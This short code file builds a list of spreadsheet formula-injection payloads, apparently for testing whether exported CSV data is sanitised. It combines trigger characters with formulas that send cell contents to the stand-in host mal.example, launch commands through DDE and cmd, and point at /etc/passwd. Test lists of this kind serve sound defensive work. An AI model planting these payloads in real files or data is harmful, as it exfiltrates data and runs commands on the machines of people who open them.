/** Names that would run a formula in the spreadsheet of a person who opens the list. */
const commands = [
  'HYPERLINK("http://mal.example?x="&A1,"Error")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://mal.example?",A1),"//a")',
  'IMPORTDATA("http://mal.example")',
  'IMPORTRANGE("a","b")',
  'WEBSERVICE("http://mal.example/"&A1)',
  'SUM(1+1)*2',
  'DDE("cmd";"/C calc";"x")',
  'MSEXCEL|\\..\\..\\Windows\\System32\\cmd.exe!A0',
  'IMAGE("http://mal.example/x.png")',
  'rundll32|URL.dll,OpenURL mal.example!A',
  "'file:///etc/passwd'#$passwd.A1",
  '1+1',
];
const starts = ['=', '+', '-', '@', '=-', '=+', '+-@', '\t='];

export const formulaPayloads: readonly string[] = starts.flatMap((start) =>
  commands.map((command) => `${start}${command}`),
);
